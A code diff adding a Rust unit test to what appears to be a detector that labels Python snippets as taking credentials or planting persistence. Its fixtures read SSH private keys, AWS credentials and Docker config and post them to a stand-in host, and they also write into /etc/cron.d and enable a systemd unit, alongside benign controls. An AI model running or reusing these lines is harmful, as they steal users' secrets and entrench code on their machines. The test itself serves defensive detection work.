@@ -378,6 +378,48 @@ fn a_format_and_a_module_of_the_callers_are_found() {
     holds(In::Python, &rows);
 }
 
+/// Places that the author wrote down: what they tell depends on what else is there.
+#[test]
+fn one_programs_credential_is_what_its_server_reads() {
+    const TAKES: &[&str] = &["takes-credentials"];
+    const PLANTS: &[&str] = &["plants-itself"];
+    let send =
+        "\nimport requests\nrequests.post(\"https://api.example.com/\", data=text, timeout=9)";
+    let near = "\nimport requests\nrequests.post(\"http://127.0.0.1:8000/\", data=text, timeout=9)";
+    let open = |places: &[&str]| -> String {
+        let one = |place: &&str| format!("\ntext = open(os.path.expanduser(\"{place}\")).read()");
+        places.iter().map(one).collect()
+    };
+    let (aws, docker, key) = ("~/.aws/credentials", "~/.docker/config.json", "~/.ssh/id_rsa");
+    let rows: Vec<(&[&str], String)> = vec![
+        (TAKES, open(&[key]) + send),
+        (TAKES, open(&[aws, docker]) + send),
+        (NOTHING, open(&[aws]) + send),
+        (NOTHING, open(&[aws, docker])),
+        (NOTHING, open(&[aws, docker]) + near),
+        (NOTHING, open(&["~/.ssh/known_hosts"]) + send),
+        (
+            TAKES,
+            format!(
+                "\nimport glob\nfor name in [\"id_rsa\", \"id_dsa\"]:\n    text = glob.glob(os.path.join(os.path.expanduser(\"~/.ssh\"), name)){send}"
+            ),
+        ),
+        (PLANTS, "\nopen(\"/etc/cron.d/update\", \"w\").write(\"x\")".to_owned()),
+        (NOTHING, "\nreturn open(\"/etc/crontab\").read()".to_owned()),
+        (
+            PLANTS,
+            "\nsubprocess.run([\"systemctl\", \"enable\", \"x\"], stdin=subprocess.DEVNULL, timeout=9)".to_owned(),
+        ),
+        (
+            NOTHING,
+            "\nsubprocess.run([\"systemctl\", \"status\", \"x\"], stdin=subprocess.DEVNULL, timeout=9)".to_owned(),
+        ),
+    ];
+    let rows: Vec<(&[&str], &str)> =
+        rows.iter().map(|(told, body)| (*told, body.as_str())).collect();
+    holds(In::Python, &rows);
+}
+
 #[test]
 fn only_letters_and_digits_are_a_name() {
     let shown = |pattern: &str| {
